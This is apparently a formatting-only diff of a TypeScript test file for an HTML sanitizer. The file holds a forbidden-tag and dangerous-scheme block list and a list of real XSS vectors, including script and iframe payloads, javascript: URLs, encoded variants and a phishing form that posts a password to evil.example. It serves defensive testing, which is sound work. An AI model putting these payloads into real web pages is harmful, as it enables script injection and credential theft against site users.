@@ -21,10 +21,7 @@ function tagsOf(html: string): Tag[] {
   return [...html.matchAll(/<(\/?)([a-zA-Z][a-zA-Z0-9]*)([^>]*)>/g)].map(([, closing, name, rest]) => ({
     name: name!.toLowerCase(),
     closing: closing === '/',
-    attributes: [...rest!.matchAll(/\s([^\s="/]+)(?:="([^"]*)")?/g)].map(([, attribute, value]) => [
-      attribute!.toLowerCase(),
-      value,
-    ]),
+    attributes: [...rest!.matchAll(/\s([^\s="/]+)(?:="([^"]*)")?/g)].map(([, attribute, value]) => [attribute!.toLowerCase(), value]),
   }));
 }
 
@@ -42,8 +39,15 @@ function decodeAttribute(value: string): string {
 const squeezed = (url: string) => url.replace(/[\s\u0000-\u001f\u007f-\u009f\u00ad\u200b-\u200f\u2060-\u2064\ufeff\ufffd]/g, '');
 
 const allowedTags = new Set(htmlAllowList.allowedTags as string[]);
-const allowedAttributes: Record<string, string[]> = { a: ['href', 'title', 'target', 'rel'], img: ['src', 'alt', 'width', 'height', 'loading'], ol: ['start'], th: ['colspan', 'rowspan', 'scope'], td: ['colspan', 'rowspan'] };
-const forbiddenTags = /<\/?\s*(script|iframe|frame|frameset|form|input|button|textarea|select|object|embed|applet|base|meta|link|style|svg|math|noscript|template|title|xmp|plaintext)\b/i;
+const allowedAttributes: Record<string, string[]> = {
+  a: ['href', 'title', 'target', 'rel'],
+  img: ['src', 'alt', 'width', 'height', 'loading'],
+  ol: ['start'],
+  th: ['colspan', 'rowspan', 'scope'],
+  td: ['colspan', 'rowspan'],
+};
+const forbiddenTags =
+  /<\/?\s*(script|iframe|frame|frameset|form|input|button|textarea|select|object|embed|applet|base|meta|link|style|svg|math|noscript|template|title|xmp|plaintext)\b/i;
 const dangerousSchemes = /(?:java|vb)script:|livescript:|data:\s*text\/html/i;
 
 /** Every check a sanitized vector must pass; returns the problems found, none when safe. */
@@ -78,7 +82,13 @@ const b64Svg = 'PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+'; // <svg onload=alert(1)><
 /** `text` as numeric character references: decimal or hex, zero-padded, with or without `;`. */
 const asEntities = (text: string, { hex = false, pad = 0, semicolon = true } = {}) =>
   [...text]
-    .map((c) => `&#${hex ? 'x' : ''}${c.codePointAt(0)!.toString(hex ? 16 : 10).padStart(pad, '0')}${semicolon ? ';' : ''}`)
+    .map(
+      (c) =>
+        `&#${hex ? 'x' : ''}${c
+          .codePointAt(0)!
+          .toString(hex ? 16 : 10)
+          .padStart(pad, '0')}${semicolon ? ';' : ''}`,
+    )
     .join('');
 
 /** Real XSS vectors, after the OWASP filter-evasion cheat sheet, PortSwigger's list and mXSS papers. */
@@ -157,7 +167,10 @@ export const vectors: Array<[label: string, html: string]> = [
   ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
   ['iframe from elsewhere', '<iframe src="https://evil.example/phish"></iframe>'],
   ['form with javascript: action', '<form action="javascript:alert(1)"><input type=submit></form>'],
-  ['phishing form', '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Log in</button></form>'],
+  [
+    'phishing form',
+    '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Log in</button></form>',
+  ],
   ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
   ['isindex action', '<isindex action=javascript:alert(1) type=image>'],
   ['object javascript: data', '<object data="javascript:alert(1)"></object>'],
@@ -199,4 +212,3 @@ export const vectors: Array<[label: string, html: string]> = [
   ['entity-encoded markup in text', '<p>&lt;img src=x onerror=alert(1)&gt;</p>'],
   ['filter-evasion soup', `'';!--"<XSS>=&{()}`],
 ];
-
